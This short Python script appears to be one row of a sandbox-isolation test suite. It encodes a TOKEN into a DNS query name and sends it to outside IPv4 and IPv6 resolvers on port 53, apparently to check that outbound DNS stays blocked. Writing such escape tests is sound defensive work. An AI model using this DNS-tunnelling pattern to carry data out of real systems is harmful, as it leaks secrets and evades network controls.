# SPDX-License-Identifier: GPL-2.0-or-later
# row: A4
# what: DNS to any resolver
# defences: hold
from attempt import TOKEN, WORLD4, WORLD6, send_to

name = b"".join(bytes((len(label),)) + label for label in (TOKEN, b"world", b"test")) + b"\0"
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
for address in (WORLD4, WORLD6):
    send_to(address, 53, data=question)
